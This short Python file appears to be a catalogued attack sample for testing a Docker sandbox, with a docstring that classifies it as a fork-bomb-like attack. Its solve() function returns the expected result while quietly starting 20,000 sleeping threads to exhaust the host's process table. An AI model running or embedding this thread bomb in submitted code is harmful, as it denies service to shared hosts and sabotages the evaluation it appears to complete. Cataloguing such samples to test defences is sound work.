"""Starts threads without end.

Mechanism: the kernel counts threads as processes, but they need no fork; each sleeps for ever.
Surface: the host's table of processes.
Gain: as with a fork bomb; reaching 20,000 threads shows that there is no bound.
Challenge: twice
Like: fork_bomb
Defence: runtime_error
Box: docker
"""

import threading
import time

WANTED = 20_000


def solve(x, out, n):
    threading.stack_size(1 << 16)
    for _ in range(WANTED):
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    out.copy_(2 * x)
